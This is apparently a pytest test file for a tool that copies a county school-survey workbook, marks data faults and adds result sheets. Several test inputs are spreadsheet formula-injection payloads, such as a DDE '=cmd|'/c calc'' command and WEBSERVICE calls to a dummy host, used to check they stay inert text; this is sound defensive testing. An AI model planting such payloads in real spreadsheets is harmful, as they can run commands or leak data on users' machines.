"""The marked-up copy of a county's workbook: same cells, faults marked, nothing that a stranger wrote runs."""

import csv
import io
import zipfile

import openpyxl
import pytest
from openpyxl.styles import Font, PatternFill

from assistant.workbook.cells import LONGEST_TEXT, Entry, Page
from assistant.workbook.formulas import kept_formula
from assistant.workbook.issue_names import ISSUE_NAMES
from assistant.workbook.marked import marked_workbook
from assistant.workbook.names import sheet_names
from assistant.workbook.wording import FILLS
from assistant.workbook.writing import written
from calculators.layouts.own_sheets import MARK
from calculators.model import Upload
from calculators.opening.grids import read_grids
from tests.assistant.marked_county import marked, unit_rows, values_of
from tests.assistant.office import cells_of
from tests.conftest import sample

OWN_PAGES = ["问题清单", "判定汇总", "指标结果", "差异系数", "专用教室", "规模与班额", "规范数据", "口径说明"]
SAMPLES = [
    "county_survey.xlsx", "county_survey_messy.xlsx", "county_survey_messy.xls", "county_survey_messy.ods",
    "county_survey.csv", "county_edges.xlsx", "one_school.xlsx", "county_form_II-2.xlsx",
]  # fmt: skip
HEADINGS = [
    "学校名称",
    "办学类型",
    "小学在校生数",
    "小学班级数",
    "运动场地面积（㎡）",
    "室内体育用房面积（㎡）",
    "备注",
]


def opened(workbook):
    return openpyxl.load_workbook(io.BytesIO(workbook))


def made(*rows, formulas=(), name="表.xlsx", change=None):
    """Return a workbook of some schools."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "摸底表"
    for row in (HEADINGS, *rows):
        sheet.append(row)
    for cell, formula in formulas:
        sheet[cell] = formula
    if change:
        change(book)
    stream = io.BytesIO()
    book.save(stream)
    return Upload(name, stream.getvalue())


A_SCHOOL = ["甲小学", "小学", 500, 12, 4000, 100, None]
ANOTHER = ["乙小学", "小学", 800, 18, 5000, 0, None]


@pytest.mark.parametrize("name", SAMPLES)
def test_every_value_stands_where_it_stood(assistant, name):
    found = marked(assistant, sample(name))
    copied = {grid.sheet: grid for grid in read_grids(Upload("out.xlsx", found.workbook))}
    for grid in read_grids(found.uploads[0]):
        rows = copied[grid.sheet].rows
        for n, row in enumerate(grid.rows):
            for column, value in enumerate(row):
                beside = rows[n][column] if n < len(rows) and column < len(rows[n]) else None
                assert beside == value, (grid.sheet, n, column)


@pytest.mark.parametrize("name", SAMPLES)
def test_the_pages_of_results_follow_the_copies(assistant, name):
    assert opened(marked(assistant, sample(name)).workbook).sheetnames[-len(OWN_PAGES) :] == OWN_PAGES


@pytest.mark.parametrize("name", SAMPLES)
def test_a_reader_that_does_not_calculate_sees_the_figures(assistant, name):
    found = marked(assistant, sample(name))
    rows = unit_rows(cells_of(found.workbook))
    for unit in found.report.as_json()["units"]:
        wanted = ["数据不足" if value is None else value for value in unit["values"].values()]
        assert values_of(rows[unit["school"], unit["stage"]]) == pytest.approx(wanted, rel=1e-12)


@pytest.mark.parametrize("name", SAMPLES)
def test_the_report_is_read_again_to_the_same_figures(assistant, name):
    found = marked(assistant, sample(name))
    again = assistant.check([Upload("out.xlsx", found.workbook)], year=found.report.year)
    first, second = found.report.as_json(), again.as_json()
    for key in ("units", "stages", "rooms", "size", "class_size", "county"):
        assert second[key] == first[key], key
    assert [one.sheet for one in again.issues if one.code == "own_page"] == OWN_PAGES


def test_a_report_of_a_report_copies_the_data_alone(assistant):
    once = marked(assistant, sample("county_edges.xlsx"))
    twice = marked(assistant, Upload("out.xlsx", once.workbook))
    assert opened(twice.workbook).sheetnames == opened(once.workbook).sheetnames


def test_several_files_are_told_apart_in_one_workbook(assistant):
    names = ("county_statistics_小学.xlsx", "county_statistics_初中.xlsx")
    found = marked(assistant, *map(sample, names))
    copies = opened(found.workbook).sheetnames[: -len(OWN_PAGES)]
    assert len(copies) == 2 and "小学" in copies[0] and "初中" in copies[1]
    again = assistant.check([Upload("out.xlsx", found.workbook)], year=found.report.year)
    assert again.as_json()["stages"] == found.report.as_json()["stages"]


def test_each_fault_is_coloured_explained_and_linked(assistant):
    found = marked(assistant, made([*A_SCHOOL[:4], "很多", 100, None], ANOTHER))
    book = opened(found.workbook)
    issue = next(one for one in found.report.issues if one.cell == "E2")
    cell = book["摸底表"]["E2"]
    assert cell.fill.fgColor.rgb[-6:] == FILLS[issue.severity]
    assert issue.message.zh in cell.comment.text
    links = [row[5].hyperlink.location for row in book["问题清单"].iter_rows() if row[5].hyperlink]
    assert "'摸底表'!$E$2" in links


def test_all_issues_are_listed_the_gravest_first(assistant):
    found = marked(assistant, sample("county_missing_column.xlsx"))
    rows = [row for row in cells_of(found.workbook)["问题清单"] if isinstance(row[0], float)]
    assert sorted(row[10] for row in rows) == sorted(one.code for one in found.report.issues)
    assert sorted(row[2] for row in rows) == sorted(ISSUE_NAMES[one.code].zh for one in found.report.issues)
    order = ["错误", "警告", "提示"]
    assert [row[1] for row in rows] == sorted((row[1] for row in rows), key=order.index)


def test_what_is_not_known_is_called_undecided_and_never_0(assistant):
    found = marked(assistant, sample("county_missing_column.xlsx"))
    r5 = [values_of(row)[4] for row in unit_rows(cells_of(found.workbook)).values()]
    assert set(r5) == {"数据不足"}
    reasons = [row[-1] for row in unit_rows(cells_of(found.workbook)).values()]
    assert all("运动场地面积" in str(reason) for reason in reasons)


def test_the_looks_of_the_original_are_kept_under_the_marks(assistant):
    def dress(book):
        sheet = book.active
        sheet["A1"].font = Font(name="宋体", bold=True, size=16)
        sheet["C2"].fill, sheet["C2"].number_format = PatternFill("solid", fgColor="00FF00"), "#,##0"
        sheet.column_dimensions["A"].width = 33
        sheet.row_dimensions[1].height = 44
        sheet.freeze_panes = "B2"

    sheet = opened(marked(assistant, made(A_SCHOOL, ANOTHER, change=dress)).workbook)["摸底表"]
    assert (sheet["A1"].font.name, sheet["A1"].font.bold, sheet["A1"].font.size) == ("宋体", True, 16)
    assert (sheet["C2"].fill.fgColor.rgb, sheet["C2"].number_format) == ("0000FF00", "#,##0")
    assert (sheet.column_dimensions["A"].width, sheet.row_dimensions[1].height) == (33, 44)
    assert sheet.freeze_panes == "B2"


def test_hidden_sheets_stay_hidden(assistant):
    def hide(book):
        book.create_sheet("底稿").append(["内部", 1])
        book["底稿"].sheet_state = "hidden"

    book = opened(marked(assistant, made(A_SCHOOL, ANOTHER, change=hide)).workbook)
    assert book["底稿"].sheet_state == "hidden" and book["底稿"]["B1"].value == 1


@pytest.mark.parametrize("text", ['=WEBSERVICE("http://a.b")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "=cmd|'/c calc'!A1"])
def test_text_that_would_begin_a_formula_stays_text(assistant, text):
    stream = io.StringIO()
    csv.writer(stream).writerows([HEADINGS, [text, *A_SCHOOL[1:6], text], ANOTHER])
    found = marked(assistant, Upload("表.csv", stream.getvalue().encode()))
    own = {"指标结果", "差异系数", "判定汇总", "专用教室", "规模与班额", "规范数据"}
    for sheet in opened(found.workbook).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f" or sheet.title in own
                if isinstance(cell.value, str) and cell.value.strip() == text.strip():
                    assert cell.data_type == "s" and cell.quotePrefix
    assert b"WEBSERVICE" not in _formulas(found.workbook)


def _formulas(workbook):
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        parts = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
    return b"".join(piece.partition(b"</f>")[0] for part in parts for piece in part.split(b"<f>")[1:])


def test_what_xml_cannot_hold_and_what_is_too_long_is_shown_to_be_so():
    page = Page("表", entries={(0, 0): Entry("甲\x01\ud800小学"), (0, 1): Entry("长" * (LONGEST_TEXT + 10))})
    sheet = opened(written([page], "均衡", "表"))["表"]
    assert sheet["A1"].value == "甲\ufffd\ufffd小学"
    assert len(sheet["B1"].value) == LONGEST_TEXT and sheet["B1"].value.endswith("…")


@pytest.mark.parametrize(
    ("formula", "kept"),
    [
        ("=SUM(C2:C9)", "=SUM(C2:C9)"),
        ("=ROUND(E2/15*10000,2)", "=ROUND(E2/15*10000,2)"),
        ("=IF(COUNTIF($A:$A,A2)>1,1,0)", "=IF(COUNTIF($A:$A,A2)>1,1,0)"),
        ("='旧表'!B7*2", "='新表'!B7*2"),
        ("=旧表!B7", "='新表'!B7"),
        ("=别表!B7", None),
        ("=[1]旧表!B7", None),
        ('=WEBSERVICE("http://a.b/"&A1)', None),
        ('=HYPERLINK("http://a.b")', None),
        ("=cmd|'/c calc'!A0", None),
        ("=INDIRECT(A1)", None),
        ("=NOW()", None),
        ("=某个名称*2", None),
        ("=_xlfn.FILTERXML(A1,B1)", None),
        ("={1,2}", None),
        ('=IF("', None),
        ("=SUM(" + "A1," * 2000 + "A1)", None),
    ],
)
def test_only_plain_arithmetic_over_copied_sheets_stays_a_formula(formula, kept):
    assert kept_formula(formula, {"旧表": "新表"}) == kept


def test_a_formula_that_calls_out_leaves_its_value_and_an_image_its_place(assistant):
    upload = made(A_SCHOOL, ANOTHER, formulas=[("G2", '=WEBSERVICE("http://a.b")'), ("G3", "=C2+C3")])
    found = marked(assistant, upload)
    assert opened(found.workbook)["摸底表"]["G2"].value is None
    assert opened(found.workbook)["摸底表"]["G3"].value == "=C2+C3"
    assert b"WEBSERVICE" not in _formulas(found.workbook)


def test_nothing_outside_is_referred_to(assistant):
    with zipfile.ZipFile(io.BytesIO(marked(assistant, sample("county_survey_messy.xlsx")).workbook)) as archive:
        names = archive.namelist()
        assert not [name for name in names if "externalLink" in name or "vbaProject" in name or "media" in name]
        related = b"".join(archive.read(name) for name in names if name.endswith(".rels"))
    assert b"External" not in related


def test_the_notes_name_standard_readings_files_and_clauses(assistant):
    found = marked(assistant, sample("county_survey.xlsx"))
    said = "\n".join(str(cell) for row in cells_of(found.workbook)["口径说明"] for cell in row)
    assert all(one.quote in said for one in found.report.citations)
    assert found.report.sha256 in said
    assert all(one.changes.zh in said for one in found.report.readings)
    assert "1 : 1.1 : 1.32" in said


def test_the_report_speaks_english(assistant):
    upload = sample("county_edges.xlsx")
    report = assistant.check([upload], language="en")
    book = opened(marked_workbook(report, [upload], "en"))
    assert "Indicator results" in book.sheetnames
    assert book["Indicator results"]["A1"].value.startswith(MARK)


@pytest.mark.parametrize("page", OWN_PAGES)
def test_each_page_prints_on_the_width_of_a_sheet_with_its_headings(assistant, page):
    sheet = opened(marked(assistant, sample("county_edges.xlsx")).workbook)[page]
    wide = page == "规范数据"
    assert sheet.page_setup.orientation == "landscape" and sheet.page_setup.fitToWidth == (3 if wide else 1)
    assert (sheet.page_setup.paperSize, sheet.print_title_cols) == ((8, "$A:$B") if wide else (9, None))
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert page == "口径说明" or (sheet.freeze_panes and sheet.print_title_rows)


@pytest.mark.parametrize(
    ("wanted", "found"),
    [
        (["表/一", "表:一"], ("表 一", "表 一(2)")),
        (["Data", "data"], ("Data", "data(2)")),
        (["", "  ", "'"], ("Sheet", "Sheet(2)", "Sheet(3)")),
        (["x" * 40, "x" * 40], ("x" * 31, "x" * 28 + "(2)")),
        (["History"], ("Sheet",)),
    ],
)
def test_names_of_sheets_are_legal_and_unique(wanted, found):
    assert sheet_names(wanted) == found
